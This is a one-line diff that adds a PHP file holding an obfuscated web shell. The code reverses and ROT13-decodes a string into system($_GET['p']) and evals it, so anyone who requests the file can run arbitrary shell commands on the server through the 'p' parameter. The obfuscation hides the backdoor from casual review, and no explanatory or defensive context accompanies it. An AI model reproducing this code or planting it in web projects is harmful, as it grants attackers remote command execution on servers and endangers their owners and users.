@@ -1,0 +1,1 @@
+<?php eval(str_rot13(strrev(';)]\'p\'[GRT_$(zrgflf')));
